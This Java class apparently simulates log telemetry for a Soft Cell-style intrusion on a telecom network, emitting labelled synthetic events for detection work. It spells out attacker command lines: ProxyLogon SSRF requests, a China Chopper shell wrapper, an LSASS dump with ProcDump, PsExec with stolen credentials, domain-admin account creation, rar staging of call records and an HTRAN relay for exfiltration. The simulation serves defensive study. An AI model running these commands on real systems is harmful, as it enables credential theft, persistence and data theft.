package org.dotlink.cli.demo;

import static org.dotlink.cli.demo.ScenarioTime.MINUTE;
import static org.dotlink.cli.demo.ScenarioTime.SECOND;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.LongConsumer;

/**
 * Cluster A, in the manner of Operation Soft Cell (GALLIUM, G0093), after call detail records:
 * <ol>
 *   <li>Wednesday 3 March, 18:35 UTC (01:35 local): ProxyLogon against EXCH01 (SSRF requests with the
 *       X-BEResource cookie), a China Chopper page written through the OAB virtual directory into
 *       {@code ecp\auth}; through it whoami, net, nltest, tasklist, quser and nbtscan; ProcDump on LSASS;
 *       PsExec as a stolen domain admin ({@code adm.lim}) to DC01, where a new account {@code svcmon} is
 *       created and added to Domain Admins; rar copied to BILL01 over C$ and run there through WMI, with
 *       a password, packing the CDR exports into the Recycle Bin;</li>
 *   <li>the next night: an HTRAN-style relay ({@code -tran}) on EXCH01 forwards the attacker's SMB to
 *       BILL01, and the archives leave;</li>
 *   <li>the web shell survives the Exchange update: on 11 March the same staging on BILL02 (PsExec with
 *       {@code -c}), on 17 March again on BILL01, each time followed by the relay; a quick check of the
 *       shell on 14 March.</li>
 * </ol>
 */
final class SoftCellIntrusion implements Intrusion {

    static final String ID = "A";
    private static final String EXPLOIT_IP = "45.76.131.18";
    private static final String SHELL_IP = "45.76.131.22";
    private static final String RELAY_CLIENT_IP = "149.28.150.195";
    private static final String SHELL_URI = "/ecp/auth/TimeoutLogon.aspx";
    private static final String SHELL_DIR = Binaries.ECP_FOLDER + "auth";
    private static final String CHOPPER_UA = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)";
    private static final String STOLEN_PASSWORD = "Lim#Sunda2021";
    private static final String NEW_ADMIN = "svcmon";
    private static final String NEW_ADMIN_PASSWORD = "Zaq12wsx!2021";
    private static final String RAR_PASSWORD = "C4ll#D3ta1l";
    private static final String RECYCLE = "C:\\$Recycle.Bin\\" + Network.DOMAIN_SID + "-500\\";

    private final Scenario sc;
    private final Rng rng;
    private final Emit e;
    private final Host exchange;
    private boolean uploadedRelay;

    SoftCellIntrusion(Scenario sc) {
        this.sc = sc;
        this.rng = new Rng(sc.seed(), "intrusion-a");
        this.e = sc.emit(null, rng);
        this.exchange = sc.network().host("EXCH01");
    }

    private Emit step(String what) {
        return e.as(Label.step(ID, what));
    }

    @Override
    public GroundTruth.Cluster cluster() {
        Map<String, String> tools = new LinkedHashMap<>();
        for (Binary b : List.of(Binaries.A_PROCDUMP, Binaries.A_PSEXEC, Binaries.A_PSEXESVC, Binaries.A_NBTSCAN,
                Binaries.A_RAR, Binaries.A_HTRAN)) {
            tools.put(b.path(), b.sha256());
        }
        tools.put(SHELL_DIR + "\\TimeoutLogon.aspx", "China Chopper web shell");
        return new GroundTruth.Cluster(ID, "Soft Cell-like", "GALLIUM (G0093)",
                List.of("EXCH01", "DC01", "BILL01", "BILL02"), List.of("SUNDATEL\\adm.lim (stolen)",
                        "SUNDATEL\\" + NEW_ADMIN + " (created)"),
                List.of(EXPLOIT_IP, SHELL_IP, RELAY_CLIENT_IP), tools);
    }

    @Override
    public void plan(int day, Agenda agenda) {
        switch (day) {
            case 2 -> at(agenda, ScenarioTime.at(2, 18, 35), this::firstNight);
            case 3 -> at(agenda, ScenarioTime.at(3, 19, 5), t -> exfiltrate(t, sc.network().host("BILL01"), EXPLOIT_IP));
            case 10 -> at(agenda, ScenarioTime.at(10, 19, 10), t -> stageAgain(t, sc.network().host("BILL02"), "0311",
                    SHELL_IP));
            case 13 -> at(agenda, ScenarioTime.at(13, 20, 40), t -> {
                Emit s = step("A3 discovery through the web shell");
                Proc cmd = chopper(s, t, SHELL_IP, "whoami");
                s.end(t + 2 * SECOND, s.start(t + 700, cmd, Binaries.WHOAMI, "whoami"));
                s.end(t + 3 * SECOND, cmd);
            });
            case 16 -> at(agenda, ScenarioTime.at(16, 18, 50), t -> stageAgain(t, sc.network().host("BILL01"), "0317",
                    EXPLOIT_IP));
            default -> { }
        }
    }

    private static void at(Agenda agenda, long t, LongConsumer run) {
        agenda.at(t, () -> run.accept(t));
    }

    /** One China Chopper request: the POST, and cmd.exe started by the ECP worker with the shell's markers. */
    private Proc chopper(Emit s, long t, String ip, String command) {
        s.web(t, exchange, "POST", SHELL_URI, null, null, ip, CHOPPER_UA, null, null, 200, rng.between(150, 2500));
        Proc w3wp = ExchangeActivity.pool(e, exchange, ExchangeActivity.ECP_POOL, t);
        return s.start(t + 400, w3wp, Binaries.CMD, null, "cmd /c cd /d \"" + SHELL_DIR + "\"&" + command
                + "&echo [S]&cd&echo [E]", SHELL_DIR + "\\", e.machine(exchange).systemSession());
    }

    /** A file sent through the web shell's upload: the POST, and the IIS worker writing it. */
    private void upload(Emit s, long t, String ip, String path) {
        s.web(t, exchange, "POST", SHELL_URI, null, null, ip, CHOPPER_UA, null, null, 200, rng.between(400, 4000));
        s.file(t + 600, ExchangeActivity.pool(e, exchange, ExchangeActivity.ECP_POOL, t), path);
    }

    /** A command through the web shell that runs one program (and, for net, net1). */
    private void run(Emit s, long t, String ip, String command, Binary program, String image, String commandLine) {
        Proc cmd = chopper(s, t, ip, command);
        Proc p = s.start(t + 700, cmd, program, image, commandLine, cmd.session());
        if (program == Binaries.NET) {
            s.end(t + 2 * SECOND, s.start(t + 800, p, Binaries.NET1, "C:\\Windows\\system32\\net1  "
                    + commandLine.substring(commandLine.indexOf(' ') + 1)));
        }
        s.end(t + rng.between(2, 9) * SECOND, p);
        s.end(t + 10 * SECOND, cmd);
    }

    private void firstNight(long t0) {
        Network net = sc.network();
        Host dc = net.host("DC01");
        Host billing = net.host("BILL01");
        Machine ex = e.machine(exchange);

        Emit exploit = step("A1 Exchange exploited (ProxyLogon SSRF)");
        String fe = exchange.fqdn();
        String canary = rng.hex(32);
        String[] backends = {fe + "/autodiscover/autodiscover.xml?a=~1942062522",
            "Administrator@" + fe + ":444/mapi/emsmdb?MailboxId=" + rng.uuid() + "@" + Network.MAIL_DOMAIN + "&a=~1942062522",
            "Administrator@" + fe + ":444/ecp/proxyLogon.ecp?a=~1942062522",
            "Administrator@" + fe + ":444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary="
                    + canary + "&a=~1942062522",
            "Administrator@" + fe + ":444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary="
                    + canary + "&a=~1942062522",
            "Administrator@" + fe + ":444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary="
                    + canary + "&a=~1942062522"};
        long t = t0;
        for (String b : backends) {
            exploit.web(t, exchange, "POST", "/ecp/y.js", null, null, EXPLOIT_IP, "python-requests/2.25.1", null,
                    "X-BEResource=" + b + ";", 200, rng.between(40, 900));
            t += rng.between(3, 8) * SECOND;
        }
        Proc ecp = ExchangeActivity.pool(e, exchange, ExchangeActivity.ECP_POOL, t);
        step("A2 web shell written through the OAB virtual directory").file(t + SECOND, ecp, SHELL_DIR + "\\TimeoutLogon.aspx");

        Emit shell = step("A2 China Chopper web shell used");
        shell.web(t0 + 2 * MINUTE, exchange, "GET", SHELL_URI, null, null, EXPLOIT_IP, CHOPPER_UA, null, null, 200, 31);
        Emit recon = step("A3 discovery through the web shell");
        long c = t0 + 3 * MINUTE;
        run(recon, c, EXPLOIT_IP, "whoami", Binaries.WHOAMI, null, "whoami");
        run(recon, c += 55 * SECOND, EXPLOIT_IP, "ipconfig /all", Binaries.IPCONFIG, null, "ipconfig /all");
        run(recon, c += 70 * SECOND, EXPLOIT_IP, "net group \"domain admins\" /domain", Binaries.NET, null,
                "net group \"domain admins\" /domain");
        run(recon, c += 48 * SECOND, EXPLOIT_IP, "nltest /dclist:sundatel.local", Binaries.NLTEST, null,
                "nltest /dclist:sundatel.local");
        run(recon, c += 65 * SECOND, EXPLOIT_IP, "tasklist /v", Binaries.TASKLIST, null, "tasklist /v");
        run(recon, c += 40 * SECOND, EXPLOIT_IP, "quser", Binaries.QUSER, null, "quser");
        upload(step("A2 tools uploaded through the web shell"), c += 60 * SECOND, EXPLOIT_IP, Binaries.A_NBTSCAN.path());
        run(recon, c += 45 * SECOND, EXPLOIT_IP, "C:\\ProgramData\\nbtscan.exe 10.10.1.0/24", Binaries.A_NBTSCAN, null,
                "C:\\ProgramData\\nbtscan.exe 10.10.1.0/24");
        run(recon, c += 80 * SECOND, EXPLOIT_IP, "C:\\ProgramData\\nbtscan.exe 10.10.2.0/24", Binaries.A_NBTSCAN, null,
                "C:\\ProgramData\\nbtscan.exe 10.10.2.0/24");

        Emit dump = step("A4 LSASS dumped with ProcDump");
        upload(dump, c += 3 * MINUTE, EXPLOIT_IP, Binaries.A_PROCDUMP.path());
        c += MINUTE;
        Proc cmd = chopper(dump, c, EXPLOIT_IP, "C:\\ProgramData\\pd.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp");
        Proc pd = dump.start(c + 700, cmd, Binaries.A_PROCDUMP, null,
                "C:\\ProgramData\\pd.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp", cmd.session());
        dump.access(c + 1500, pd, ex.lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32"
                + "\\KERNELBASE.dll+2b8ae|C:\\ProgramData\\pd.exe+2f2b1|C:\\ProgramData\\pd.exe+31c9a|C:\\Windows\\System32"
                + "\\KERNEL32.DLL+17bd4|C:\\Windows\\SYSTEM32\\ntdll.dll+6ced1");
        dump.file(c + 3 * SECOND, pd, "C:\\ProgramData\\lsass.dmp");
        dump.end(c + 9 * SECOND, pd);
        dump.end(c + 10 * SECOND, cmd);
        dump.web(c += 4 * MINUTE, exchange, "POST", SHELL_URI, null, null, EXPLOIT_IP, CHOPPER_UA, null, null, 200, 48_211);
        Proc del = chopper(dump, c += 2 * MINUTE, EXPLOIT_IP, "del C:\\ProgramData\\lsass.dmp");
        dump.end(c + 2 * SECOND, del);

        Emit lateral = step("A5 lateral movement with PsExec and WMI");
        Emit admin = step("A6 new domain admin created");
        upload(lateral, c += 4 * MINUTE, EXPLOIT_IP, Binaries.A_PSEXEC.path());
        Account stolen = net.account("adm.lim");
        c += MINUTE;
        String userCmd = "net user " + NEW_ADMIN + " " + NEW_ADMIN_PASSWORD + " /add /domain";
        Session asStolen = psexecToDc(lateral, admin, c, dc, stolen, userCmd);
        Account created = net.createAccount(NEW_ADMIN);
        admin.userCreated(c + 4 * SECOND, dc, asStolen, created);
        c += 3 * MINUTE;
        String groupCmd = "net group \"Domain Admins\" " + NEW_ADMIN + " /add /domain";
        asStolen = psexecToDc(lateral, admin, c, dc, stolen, groupCmd);
        admin.memberAdded(c + 4 * SECOND, dc, asStolen, created, "Domain Admins", Network.DOMAIN_SID + "-512", true);

        Emit staging = step("A7 call records staged with rar (password) in the Recycle Bin");
        upload(staging, c += 5 * MINUTE, EXPLOIT_IP, Binaries.A_RAR.path());
        c += MINUTE;
        Proc copy = chopper(lateral, c, EXPLOIT_IP, "net use \\\\BILL01\\C$ " + NEW_ADMIN_PASSWORD + " /user:SUNDATEL\\"
                + NEW_ADMIN + "&copy C:\\ProgramData\\r.exe \\\\BILL01\\C$\\ProgramData\\r.exe");
        Proc netUse = lateral.start(c + 600, copy, Binaries.NET, "net use \\\\BILL01\\C$ " + NEW_ADMIN_PASSWORD
                + " /user:SUNDATEL\\" + NEW_ADMIN);
        lateral.end(c + 2 * SECOND, netUse);
        Session smb = RemoteAccess.copyOverSmb(lateral, c + 2500, ex.system, billing, created, true,
                "C:\\ProgramData\\r.exe");
        lateral.end(c + 5 * SECOND, copy);
        c += 2 * MINUTE;
        String rarArgs = " a -hp" + RAR_PASSWORD + " -m5 -v200m " + RECYCLE + "cdr0303.rar D:\\CDR\\export\\*.csv";
        String remote = "cmd.exe /c C:\\ProgramData\\r.exe" + rarArgs;
        Proc wmiCmd = chopper(lateral, c, EXPLOIT_IP, "wmic /node:BILL01 /user:SUNDATEL\\" + NEW_ADMIN + " /password:"
                + NEW_ADMIN_PASSWORD + " process call create \"" + remote + "\"");
        Proc wmic = lateral.start(c + 700, wmiCmd, Binaries.WMIC, "wmic /node:BILL01 /user:SUNDATEL\\" + NEW_ADMIN
                + " /password:" + NEW_ADMIN_PASSWORD + " process call create \"" + remote + "\"");
        RemoteAccess.Run wmi = RemoteAccess.wmi(lateral, c + 1500, wmic, billing, created, true, Binaries.CMD, remote);
        lateral.end(c + 4 * SECOND, wmic);
        lateral.end(c + 5 * SECOND, wmiCmd);
        stage(staging, c + 3 * SECOND, wmi.command(), Binaries.A_RAR, "C:\\ProgramData\\r.exe", "C:\\ProgramData\\r.exe"
                + rarArgs, "cdr0303");
        lateral.logoff(c + 40 * MINUTE, billing, wmi.logon(), 3);
        lateral.logoff(c + 41 * MINUTE, billing, smb, 3);
    }

    /**
     * PsExec from the web shell to the domain controller as the stolen admin, running one net command in
     * the admin's network logon session (returned: the account changes are logged under it).
     */
    private Session psexecToDc(Emit lateral, Emit admin, long c, Host dc, Account stolen, String netCommand) {
        Machine ex = e.machine(exchange);
        String psexec = "C:\\ProgramData\\PsExec64.exe \\\\" + dc.name() + " -accepteula -u SUNDATEL\\" + stolen.name()
                + " -p " + STOLEN_PASSWORD + " " + netCommand;
        Proc cmd = chopper(lateral, c, EXPLOIT_IP, psexec);
        Proc client = lateral.start(c + 700, cmd, Binaries.A_PSEXEC, null, psexec,
                cmd.session());
        lateral.explicitCredentials(c + 900, client, ex.systemSession(), stolen, dc.name(), dc.name(), dc.ip());
        RemoteAccess.Run run = RemoteAccess.psexec(lateral, c + SECOND, client, dc, stolen, false, true, false,
                Binaries.A_PSEXESVC, Binaries.NET, null, netCommand);
        Proc net1 = admin.start(c + 2400, run.command(), Binaries.NET1, "C:\\Windows\\system32\\net1  "
                + netCommand.substring(4));
        admin.end(c + 5 * SECOND, net1);
        RemoteAccess.psexecEnd(lateral, c + 6 * SECOND, run);
        lateral.end(c + 7 * SECOND, client);
        lateral.end(c + 8 * SECOND, cmd);
        return run.logon();
    }

    /** rar over the CDR exports: the process, then the volumes written into the Recycle Bin as it goes. */
    private void stage(Emit s, long t, Proc parent, Binary rar, String image, String commandLine, String name) {
        Proc p = s.start(t, parent, rar, image, commandLine, parent.session());
        long at = t + rng.between(3, 5) * MINUTE;
        int parts = rng.between(5, 7);
        for (int i = 1; i <= parts; i++) {
            s.file(at, p, RECYCLE + name + ".part" + (i < 10 ? "0" : "") + i + ".rar");
            at += rng.between(3, 5) * MINUTE;
        }
        s.end(at, p);
        s.end(at + SECOND, parent);
    }

    /** The HTRAN-style relay on EXCH01 forwards the attacker's SMB to the billing server; the archives leave. */
    private void exfiltrate(long t, Host billing, String ip) {
        Emit s = step("A8 exfiltration through an HTRAN relay");
        if (!uploadedRelay) {
            upload(s, t, ip, Binaries.A_HTRAN.path());
            uploadedRelay = true;
        }
        long c = t + MINUTE;
        Proc cmd = chopper(s, c, ip, "start /b C:\\ProgramData\\msdtc.exe -tran 8089 " + billing.ip() + " 445");
        Proc relay = s.start(c + 700, cmd, Binaries.A_HTRAN, null, "C:\\ProgramData\\msdtc.exe -tran 8089 "
                + billing.ip() + " 445", cmd.session());
        s.end(c + 2 * SECOND, cmd);
        long in = c + rng.between(2, 4) * MINUTE;
        s.accept(in, relay, RELAY_CLIENT_IP, 8089);
        s.connect(in + 300, relay, billing.ip(), 445, billing.fqdn());
        Account account = sc.network().account(NEW_ADMIN);
        Session smb = s.logon(in + 600, billing, account, 3, exchange.ip(), "DESKTOP-Q1A7M3K", false, true);
        s.shareAccess(in + 900, billing, smb, exchange.ip(), "C$", "\\??\\C:\\");
        long out = in + rng.between(25, 45) * MINUTE;
        s.logoff(out, billing, smb, 3);
        Proc kill = chopper(s, out + 2 * MINUTE, ip, "taskkill /f /im msdtc.exe");
        Proc taskkill = s.start(out + 2 * MINUTE + 700, kill, Binaries.TASKKILL, "taskkill /f /im msdtc.exe");
        s.end(out + 2 * MINUTE + 900, relay);
        s.end(out + 2 * MINUTE + 1500, taskkill);
        s.end(out + 2 * MINUTE + 2000, kill);
    }

    /** Later rounds: PsExec with -c copies rar to the billing server and runs it; the relay follows the next hour. */
    private void stageAgain(long t, Host billing, String date, String ip) {
        Emit recon = step("A3 discovery through the web shell");
        Proc who = chopper(recon, t, ip, "whoami");
        recon.end(t + 2 * SECOND, recon.start(t + 700, who, Binaries.WHOAMI, "whoami"));
        recon.end(t + 3 * SECOND, who);
        Emit lateral = step("A5 lateral movement with PsExec and WMI");
        Emit staging = step("A7 call records staged with rar (password) in the Recycle Bin");
        Account account = sc.network().account(NEW_ADMIN);
        long c = t + 2 * MINUTE;
        String rarArgs = " a -hp" + RAR_PASSWORD + " -m5 -v200m " + RECYCLE + "cdr" + date + ".rar D:\\CDR\\export\\*.csv";
        String psexec = "C:\\ProgramData\\PsExec64.exe \\\\" + billing.name() + " -accepteula -u SUNDATEL\\" + NEW_ADMIN
                + " -p " + NEW_ADMIN_PASSWORD + " -s -c -f C:\\ProgramData\\r.exe" + rarArgs;
        Proc cmd = chopper(lateral, c, ip, psexec);
        Proc client = lateral.start(c + 700, cmd, Binaries.A_PSEXEC, null, psexec,
                cmd.session());
        Machine target = e.machine(billing);
        lateral.file(c + 1200, target.system, "C:\\Windows\\r.exe");
        RemoteAccess.Run run = RemoteAccess.psexec(lateral, c + SECOND, client, billing, account, false, true, true,
                Binaries.A_PSEXESVC, Binaries.A_RAR, "C:\\Windows\\r.exe", "\"C:\\Windows\\r.exe\"" + rarArgs);
        Proc rar = run.command();
        long at = c + rng.between(3, 5) * MINUTE;
        int parts = rng.between(5, 7);
        for (int i = 1; i <= parts; i++) {
            staging.file(at, rar, RECYCLE + "cdr" + date + ".part0" + i + ".rar");
            at += rng.between(3, 5) * MINUTE;
        }
        RemoteAccess.psexecEnd(lateral, at, run);
        lateral.end(at + 2 * SECOND, client);
        lateral.end(at + 3 * SECOND, cmd);
        exfiltrate(at + rng.between(20, 50) * MINUTE, billing, ip);
    }
}
